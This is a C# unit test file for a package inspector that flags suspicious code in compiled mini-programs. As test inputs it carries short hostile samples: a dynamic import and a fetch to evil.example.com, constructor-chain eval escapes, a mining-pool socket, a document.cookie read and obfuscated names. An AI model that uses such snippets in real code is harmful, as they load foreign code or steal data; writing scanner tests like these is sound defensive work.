using System.Text.Json;
using Madang.MiniPrograms.Compile;
using Madang.MiniPrograms.Compile.Inspection;
using Xunit;

namespace Madang.MiniPrograms.Tests.Compile;

/// <summary>What a reviewer is told of a package that nobody ran.</summary>
public sealed class PackageInspectionTests : IDisposable
{
    private static readonly string[] Parameters = ["wx", "App", "Page", "window", "document"];
    private const string Shield = "require,module,exports,wx,App,Page,window,document";

    private readonly DirectoryInfo folder = Directory.CreateTempSubdirectory("madang-inspection-");

    public void Dispose() => folder.Delete(recursive: true);

    [Fact]
    public void A_package_as_the_compiler_writes_it_has_nothing_against_it()
    {
        var report = Inspect(Module("wx.login();wx.request({url:'https://api.example.com/orders'})"));
        Assert.Empty(report.Findings);
        Assert.Equal(["pages/index"], report.Pages);
        Assert.Equal(["wx.login", "wx.request"], report.Uses.Where(use => use.Kind == "api").Select(use => use.Name));
        Assert.Equal(["button", "view"], report.Uses.Where(use => use.Kind == "component").Select(use => use.Name));
        Assert.Equal(["https://api.example.com"], report.Hosts);
        Assert.Equal("page/0.js", Directory.EnumerateFiles(folder.FullName, "*.js", SearchOption.AllDirectories).Select(file => Path.GetRelativePath(folder.FullName, file)).Single(file => file.StartsWith("page", StringComparison.Ordinal)));
    }

    [Theory]
    [InlineData("eval('1')", "code-from-text", Severity.Warning)]
    [InlineData("new Function('return 1')()", "code-from-text", Severity.Warning)]
    [InlineData("(function(){}).constructor.constructor('return 1')()", "constructor-chain", Severity.Error)]
    [InlineData("''['constructor']['constructor']('return 1')()", "constructor-chain", Severity.Error)]
    [InlineData("import('https://evil.example.com/a.js')", "dynamic-import", Severity.Error)]
    [InlineData("__madang.define('app.js',function(){})", "reaches-runtime", Severity.Error)]
    [InlineData("WebAssembly.compile(x)", "web-assembly", Severity.Warning)]
    [InlineData("wx.connectSocket({url:'stratum+tcp://pool'})", "miner", Severity.Error)]
    [InlineData("wx.request({url:'http://203.0.113.7/x'})", "address-host", Severity.Warning)]
    public void What_looks_hostile_is_shown_by_its_module(string code, string finding, Severity severity)
    {
        var found = Assert.Single(Inspect(Module(code)).Findings, one => one.Code == finding);
        Assert.Equal((severity, "app.js"), (found.Severity, found.File));
    }

    [Theory]
    [InlineData("fetch('https://evil.example.com')", "foreign-code")]
    [InlineData("__madang.define('app.js',function(require,module,exports){fetch('x')});", "unshielded-module")]
    [InlineData("__madang.define('app.js',function(require,module,exports,wx,App,Page,_3,document){});", null)]
    [InlineData("__madang.define('app.js',function(require,module,exports,wx,App,Page,other,document){});", "unshielded-module")]
    [InlineData("__madang.define('alias',function(require,module){module.exports=require('/app.js')});", null)]
    [InlineData("__madang.define('app.js',fetch('x'));", "foreign-code")]
    [InlineData("__madang.component('a',fetch('x'));", "foreign-code")]
    [InlineData("__madang.other('a',function(){});", "foreign-code")]
    [InlineData("this is no script", "script-broken")]
    public void Code_stands_only_where_the_compiler_puts_it(string chunk, string? finding)
    {
        var errors = Inspect(chunk).Findings.Where(one => one.Severity == Severity.Error).Select(one => one.Code);
        Assert.Equal(finding is null ? [] : [finding], errors);
    }

    [Theory]
    [InlineData("module.exports={a:function(e){return e.window}}", false)]
    [InlineData("function a(self){return self.document} module.exports={open:a}", false)]
    [InlineData("module.exports={a:function(){document.cookie}}", true)]
    [InlineData("module.exports={a:function(){return fetch('x')}}", true)]
    public void A_script_of_the_view_that_names_the_browser_is_shown(string code, bool isShown)
    {
        var findings = Inspect(Module("") + $"\n__madang.wxs('pages/a.wxs',function(require,exports,module){{{code}\n}});").Findings;
        Assert.Equal(isShown, findings.Any(one => one.Code == "view-script-reaches-out"));
    }

    [Fact]
    public void What_is_missing_or_too_large_is_told()
    {
        Write("files/images/huge.png", new string('a', 3 << 20));
        var report = Inspect(Module(""), manifest => manifest.Replace("\"style/app.css\"", "\"style/none.css\"", StringComparison.Ordinal));
        Assert.Contains(report.Findings, one => one is { Code: "file-missing", File: "style/none.css", Severity: Severity.Error });
        Assert.Contains(report.Findings, one => one is { Code: "package-too-large", Severity: Severity.Warning });
        Assert.True(report.PackageBytes[""] > 3 << 20);
    }

    [Fact]
    public void Obscured_names_and_data_that_nobody_can_read_are_for_the_reviewers_eye()
    {
        var names = string.Concat(Enumerable.Range(0x1000, 80).Select(number => $"var _0x{number:x}=1;"));
        var report = Inspect(Module($"{names}var data='{new string('A', 30_000)}'"));
        Assert.Equal(["obscured-code", "opaque-data"], report.Findings.Select(one => one.Code).Order());
        Assert.All(report.Findings, one => Assert.Equal(Severity.Warning, one.Severity));
    }

    [Theory]
    [InlineData("{}")]
    [InlineData("[]")]
    [InlineData("no json")]
    public void A_manifest_that_is_none_breaks_the_package(string manifest) =>
        Assert.Equal("manifest-broken", Assert.Single(Inspect(Module(""), _ => manifest).Findings).Code);

    [Fact]
    public void Code_nested_without_end_breaks_nothing() =>
        Assert.Contains(Inspect(Module(string.Concat(Enumerable.Repeat("[", 200_000)))).Findings, one => one.Code == "script-broken");

    private static string Module(string code) => $"__madang.define(\"app.js\",function({Shield}){{\n{code}\n}});\n";

    private PackageInspection Inspect(string appChunk, Func<string, string>? changeManifest = null)
    {
        var manifest = JsonSerializer.Serialize(new
        {
            format = 1,
            appId = "wx0123456789abcdef",
            compiler = "1/1.1.0",
            entry = "pages/index",
            scripts = new[] { "app.js" },
            styles = new[] { "style/app.css" },
            pages = new Dictionary<string, object> { ["pages/index"] = new { scripts = new[] { "page/0.js" }, styles = Array.Empty<string>() } },
            packages = new Dictionary<string, object> { [""] = new { } },
        });
        Write("manifest.json", changeManifest?.Invoke(manifest) ?? manifest);
        Write("app.js", appChunk);
        Write("style/app.css", "wx-view { color: red }");
        Write("page/0.js", "__madang.template(\"pages/index\",function(G,R,D,Q){return(()=>{E(\"view\",{},(N,C)=>{},()=>{E(\"button\",{},(N)=>{});E(\"my-card\",{},(N)=>{})})})});\n");
        return PackageInspector.Inspect(folder.FullName, Parameters);
    }

    private void Write(string path, string text)
    {
        var file = Path.Combine(folder.FullName, path);
        Directory.CreateDirectory(Path.GetDirectoryName(file)!);
        File.WriteAllText(file, text);
    }
}
